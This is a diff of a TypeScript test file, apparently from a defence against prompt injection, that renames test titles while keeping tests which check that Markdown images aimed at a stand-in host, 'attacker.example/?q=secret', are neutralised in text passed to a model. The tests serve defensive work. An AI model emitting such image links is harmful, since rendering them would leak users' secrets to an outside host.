@@ -6,7 +6,7 @@ import { markUntrusted } from './untrusted.ts';
 
 const leak = 'https://attacker.example/?q=secret';
 
-describe('text for a model renders no picture', () => {
+describe('text for a model renders no image', () => {
   const texts: [string, string][] = [
     ['an image', `![a chart](${leak})`],
     ['an image without alternative text', `Look: ![](${leak} "title")`],
@@ -35,7 +35,7 @@ describe('text for a model renders no picture', () => {
   }
 });
 
-test('links, escaped marks and code stay as they are', () => {
+test('links, escaped marks and code are unchanged', () => {
   for (const text of [
     '[a chart](https://example.com/a.png)',
     'Really\\![a chart](https://example.com/)',
@@ -48,7 +48,7 @@ test('links, escaped marks and code stay as they are', () => {
   assert.equal(unrenderImages('![a chart](https://e.com/a.png)'), '[image: a chart](https://e.com/a.png)');
 });
 
-test('text between the marks has no pictures', () => {
+test('text between the marks has no images', () => {
   assert.match(markUntrusted(`![a](${leak})`), /\n\[image: a\]\(https:\/\/attacker\.example/);
 });
 
